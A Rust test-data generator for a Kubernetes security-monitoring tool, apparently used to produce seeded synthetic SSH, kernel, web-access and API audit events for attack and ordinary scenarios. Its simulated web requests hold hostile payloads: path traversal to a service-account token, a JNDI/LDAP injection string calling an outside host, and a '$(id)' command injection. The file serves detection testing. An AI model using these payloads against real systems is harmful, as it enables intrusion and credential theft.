//! A cluster's minutes: lines and audit events of attacks and of ordinary life, seeded. In: a generator of numbers. Out: the
//! inputs in the order of their own times. Lines are worded as the daemons in tests/node/recordings word them.

use fastrand::Rng;
use jiff::{SignedDuration, Timestamp};
use kubewitness::{
    api::{log_source::LineFormat, rule::Source},
    record::{
        IdKey, InventoryChange, Line, NodeFacts, Origin, Payload, PodFacts, Provenance, Record, RecordId,
        RedactionFacts,
    },
    redact,
};
use serde_json::{Value, json};

const NODES: [&str; 3] = ["node-1", "node-2", "node-3"];
/// Name, node by its place in `NODES`, account.
const PODS: [(&str, usize, &str); 5] =
    [("web-1", 0, "web"), ("web-2", 1, "web"), ("cart-1", 0, "cart"), ("cart-2", 2, "cart"), ("pay-1", 1, "pay")];
const ADDRESSES: [&str; 3] = ["203.0.113.9", "2001:db8:9::9", "198.51.100.7"];
const USERS: [&str; 4] = ["root", "bob", "ann", "deploy"];

/// One input as its source wrote it.
pub struct Input {
    /// By the clock of its source, as finely as that stamps.
    pub at: Timestamp,
    what: What,
}

enum What {
    Line { source: Source, node: &'static str, file: String, text: String },
    Event(Value),
}

impl Input {
    pub fn event(at: Timestamp, event: Value) -> Input {
        Input { at, what: What::Event(event) }
    }

    /// A line that `node` wrote into a file of its own.
    pub fn line(at: Timestamp, node: &'static str, file: &str, text: String) -> Input {
        Input { at, what: What::Line { source: Source::Node, node, file: file.to_owned(), text } }
    }

    /// Whose clock stamped it.
    pub fn clock(&self) -> &'static str {
        match &self.what {
            What::Line { node, .. } => node,
            What::Event(_) => "api",
        }
    }

    pub fn is_line(&self) -> bool {
        matches!(self.what, What::Line { .. })
    }

    /// As it is kept when it is received then; `place` tells equal lines apart, as their offsets in a file do.
    pub fn record(&self, place: u64, received: Timestamp) -> Record {
        match &self.what {
            What::Line { source, node, file, text } => {
                let origin = origin(node, Provenance::File);
                let line = Line {
                    source: *source,
                    file: file.as_str().into(),
                    format: LineFormat::Auto,
                    zone: None,
                    text: "".into(),
                };
                let place = redact::LinePlace { line, position: None, at: place, facts: RedactionFacts::default() };
                redact::line_record(text.as_bytes(), place, &origin, received, &IdKey::OFFLINE)
            }
            What::Event(event) => {
                let bytes = serde_json::to_vec(event).unwrap();
                let outcome = redact::audit_event(redact::Input { bytes: &bytes, oversize: false });
                redact::record(outcome, &bytes, &origin("api", Provenance::AuditWebhook), received, &IdKey::OFFLINE)
            }
        }
    }

    pub fn shown(&self) -> String {
        match &self.what {
            What::Line { node, file, text, .. } => format!("{} {node}:{file}: {text}", self.at),
            What::Event(event) => format!("{} {event}", self.at),
        }
    }
}

fn origin(reporter: &str, provenance: Provenance) -> Origin {
    Origin { cluster: "test".into(), reporter: reporter.into(), provenance }
}

fn address_of(node: usize) -> String {
    format!("10.0.0.{}", 11 + node)
}

/// What the watches told before the first input.
pub fn inventory(at: Timestamp) -> Vec<Record> {
    let nodes = (0..).zip(NODES).map(|(number, name)| {
        InventoryChange::Node(NodeFacts { name: name.into(), addresses: vec![address_of(number)] })
    });
    let pods = (0..).zip(PODS).map(|(number, (name, node, account))| {
        InventoryChange::Pod(PodFacts {
            namespace: "shop".into(),
            name: name.into(),
            uid: format!("uid-{name}"),
            node: NODES[node].into(),
            addresses: vec![format!("10.244.{node}.{}", 7 + number)],
            service_account: account.into(),
            workload_kind: "Deployment".into(),
            workload_name: account.into(),
            ..PodFacts::default()
        })
    });
    let record = |change| Record {
        id: RecordId([0; 16]),
        received_at: at,
        origin: None,
        facts: RedactionFacts::default(),
        payload: Payload::Inventory(change),
    };
    nodes.chain(pods).map(record).collect()
}

/// The inputs of `stories` stories that begin within `span` of `start`, so that they overlap.
pub fn stream(random: &mut Rng, start: Timestamp, span: SignedDuration, stories: usize) -> Vec<Input> {
    let mut writer = Writer { random, inputs: Vec::new(), now: start };
    for _ in 0..stories {
        writer.now = start + SignedDuration::from_secs(writer.random.i64(0..span.as_secs()));
        match writer.random.u8(0..8) {
            0 | 1 => writer.guessed_password(),
            2 | 3 => writer.stolen_credentials(),
            4 => writer.exploited_web(),
            5 | 6 => writer.broken_out(),
            _ => writer.ordinary(),
        }
    }
    let mut inputs = writer.inputs;
    inputs.sort_by_key(|input| input.at);
    inputs
}

struct Writer<'a> {
    random: &'a mut Rng,
    inputs: Vec<Input>,
    now: Timestamp,
}

impl Writer<'_> {
    fn any<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.random.usize(..of.len())]
    }

    fn node(&mut self) -> usize {
        // The first has most, so that stories meet.
        if self.random.bool() { 0 } else { self.random.usize(..NODES.len()) }
    }

    /// Lets time pass: none or about a second, where stamps tie, a while, or as long as the windows of the rules.
    fn wait(&mut self, seconds: i64) {
        let millis = match self.random.u8(0..6) {
            0 => 0,
            1 => self.random.i64(0..1500),
            2 => seconds * 1000,
            _ => self.random.i64(0..seconds * 1000),
        };
        self.now += SignedDuration::from_millis(millis);
    }

    fn line(&mut self, node: usize, program: &str, message: &str) {
        let name = NODES[node];
        let (at, head) = if self.random.bool() {
            (self.now, format!("{} {name} ", self.now.strftime("%Y-%m-%dT%H:%M:%S%.6f+00:00")))
        } else {
            (whole(self.now), format!("{} {name} ", self.now.strftime("%b %e %H:%M:%S")))
        };
        let file = if program == "kernel" { "/var/log/kern.log" } else { "/var/log/auth.log" };
        let tag = if program == "kernel" { program.to_owned() } else { format!("{program}[{}]", self.random.u16(..)) };
        let text = format!("{head}{tag}: {message}");
        self.inputs.push(Input { at, what: What::Line { source: Source::Node, node: name, file: file.into(), text } });
    }

    fn sshd(&mut self, node: usize, message: &str) {
        let program = self.any(&["sshd", "sshd-session"]);
        self.line(node, program, message);
    }

    fn failures(&mut self, node: usize, address: &str, seconds: i64) {
        for _ in 0..self.random.u8(3..14) {
            let user = self.any(&["root", "bob", "invalid user oracle", "invalid user from 192.0.2.1 port 1"]);
            let port = self.random.u16(1024..);
            self.sshd(node, &format!("Failed password for {user} from {address} port {port} ssh2"));
            self.wait(seconds);
        }
    }

    fn login(&mut self, node: usize, address: &str) {
        let (user, port) = (self.any(&USERS), self.random.u16(1024..));
        let message = match self.random.u8(0..4) {
            0 => format!("Accepted keyboard-interactive/pam for {user} from {address} port {port} ssh2"),
            1 => format!(
                "Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:GFpSjJd1nQ1Fsd5c"
            ),
            _ => format!("Accepted password for {user} from {address} port {port} ssh2"),
        };
        self.sshd(node, &message);
    }

    fn web(&mut self, pod: usize, request: &str, agent: &str) {
        let (name, node, _) = PODS[pod];
        let (address, status) = (self.any(&ADDRESSES), self.any(&[200, 400, 404]));
        let stamp = self.now.strftime("%d/%b/%Y:%H:%M:%S +0000");
        let logged = format!(r#"{address} - - [{stamp}] "GET {request} HTTP/1.1" {status} 153 "-" "{agent}""#);
        let (at, text, file) = if self.random.u8(0..4) > 0 {
            let head = self.now.strftime("%Y-%m-%dT%H:%M:%S%.9fZ stdout F ");
            (self.now, format!("{head}{logged}"), format!("/var/log/pods/shop_{name}_uid-{name}/{name}/0.log"))
        } else {
            (whole(self.now), logged, "/var/log/nginx/access.log".to_owned())
        };
        self.inputs.push(Input { at, what: What::Line { source: Source::Web, node: NODES[node], file, text } });
    }

    /// An audit event of `user` from `address`: what it lacks is filled in.
    fn api(&mut self, user: Value, address: &str, request: Value) {
        let mut event = json!({
            "auditID": format!("{:032x}", self.random.u128(..)), "level": "Metadata", "stage": "ResponseComplete",
            "user": user, "sourceIPs": [address], "requestReceivedTimestamp": self.now, "stageTimestamp": self.now,
            "responseStatus": {"code": 200},
        });
        let (Value::Object(event_fields), Value::Object(fields)) = (&mut event, request) else { unreachable!() };
        event_fields.extend(fields);
        self.inputs.push(Input { at: self.now, what: What::Event(event) });
    }

    fn secrets(&mut self) -> Value {
        let (verb, code) = (self.any(&["get", "list"]), self.any(&[200, 200, 403]));
        json!({
            "verb": verb, "requestURI": "/api/v1/namespaces/shop/secrets", "responseStatus": {"code": code},
            "objectRef": {"resource": "secrets", "namespace": "shop", "apiVersion": "v1"},
        })
    }

    fn admin_binding(&mut self) -> Value {
        let role = json!({"roleRef": {"kind": "ClusterRole", "name": self.any(&["cluster-admin", "view"])}});
        json!({
            "verb": "create", "requestURI": "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            "level": "RequestResponse", "responseStatus": {"code": 201}, "requestObject": role, "responseObject": role,
            "objectRef": {"resource": "clusterrolebindings", "name": "b", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"},
        })
    }

    fn guessed_password(&mut self) {
        let (node, address) = (self.node(), self.any(&ADDRESSES));
        let seconds = self.any(&[1, 8, 30]);
        self.failures(node, address, seconds);
        self.wait(60);
        self.login(node, address);
        for _ in 0..self.random.u8(0..4) {
            self.wait(900);
            let request = if self.random.bool() { self.secrets() } else { self.admin_binding() };
            let user = self.any(&["kubernetes-admin", "jane"]);
            self.api(json!({"username": user}), &address_of(node), request);
        }
    }

    fn stolen_credentials(&mut self) {
        let (node, address) = (self.node(), self.any(&ADDRESSES));
        self.login(node, address);
        for _ in 0..self.random.u8(1..4) {
            self.wait(400);
            let (pod, _, account) = self.any(&PODS);
            let user = if self.random.bool() { account_of(account, pod) } else { json!({"username": "jane"}) };
            let request = self.secrets();
            self.api(user, &address_of(node), request);
        }
    }

    fn exploited_web(&mut self) {
        let pod = self.random.usize(..PODS.len());
        for _ in 0..self.random.u8(1..5) {
            let (request, agent) = self.any(&[
                ("/view?file=../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "curl/8.0"),
                ("/", "${jndi:ldap://203.0.113.66:1389/Basic}"),
                ("/ping?host=$(id)", "curl/8.0"),
                ("/index.html", "Mozilla/5.0"),
            ]);
            self.web(pod, request, agent);
            self.wait(120);
        }
        for _ in 0..self.random.u8(1..4) {
            self.wait(500);
            let (name, node, account) = PODS[pod];
            let address = format!("10.244.{node}.{}", 7 + pod);
            let request = if self.random.bool() { self.secrets() } else { self.admin_binding() };
            self.api(account_of(account, name), &address, request);
        }
    }

    fn broken_out(&mut self) {
        let (pod, node, _) = self.any(&PODS);
        let code = self.any(&[101, 101, 403]);
        self.api(
            json!({"username": "eve", "groups": ["system:authenticated"]}),
            "192.0.2.66",
            json!({
                "verb": "create", "requestURI": format!("/api/v1/namespaces/shop/pods/{pod}/exec?command=sh"),
                "stage": if code == 101 { "ResponseStarted" } else { "ResponseComplete" },
                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": pod, "apiVersion": "v1"},
                "responseStatus": {"code": code},
            }),
        );
        for _ in 0..self.random.u8(1..5) {
            self.wait(300);
            self.trouble(node);
        }
    }

    fn trouble(&mut self, node: usize) {
        let stamp = format!("{}.{:03}:19", self.now.as_second(), self.now.subsec_millisecond());
        match self.random.u8(0..4) {
            0 => self.line(node, "kernel", &format!(r#"[15003.123457] audit: type=1400 audit({stamp}): apparmor="DENIED" operation="open" profile="cri-containerd.apparmor.d" name="/proc/sys/kernel/core_pattern" pid=15001 comm="sh" requested_mask="w" denied_mask="w" fsuid=0 ouid=0"#)),
            1 => self.line(node, "kernel", &format!(r#"[14125.892198] audit: type=1326 audit({stamp}): auid=4294967295 uid=1000 gid=1000 ses=4294967295 pid=17086 comm="exploit" exe="/usr/local/bin/exploit" sig=31 arch=c000003e syscall=63 compat=0 ip=0x7f68cbf9d829 code=0x80000000"#)),
            2 => self.line(node, "useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=none"),
            _ => self.line(node, "usermod", "add 'bob' to group 'sudo'"),
        }
    }

    fn ordinary(&mut self) {
        for _ in 0..self.random.u8(1..6) {
            let node = self.node();
            match self.random.u8(0..5) {
                0 => self.line(
                    node,
                    "sudo",
                    "    bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
                ),
                1 => self.line(node, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
                2 => self.sshd(node, "Connection closed by authenticating user bob 203.0.113.9 port 40028 [preauth]"),
                3 => self.web(0, "/index.html", "Mozilla/5.0"),
                _ => {
                    let request = self.secrets();
                    self.api(json!({"username": format!("system:node:{}", NODES[node])}), &address_of(node), request);
                }
            }
            self.wait(60);
        }
    }
}

fn account_of(account: &str, pod: &str) -> Value {
    json!({
        "username": format!("system:serviceaccount:shop:{account}"),
        "groups": ["system:serviceaccounts", "system:authenticated"],
        "extra": {"authentication.kubernetes.io/pod-name": [pod], "authentication.kubernetes.io/pod-uid": [format!("uid-{pod}")]},
    })
}

fn whole(at: Timestamp) -> Timestamp {
    Timestamp::from_second(at.as_second()).unwrap()
}
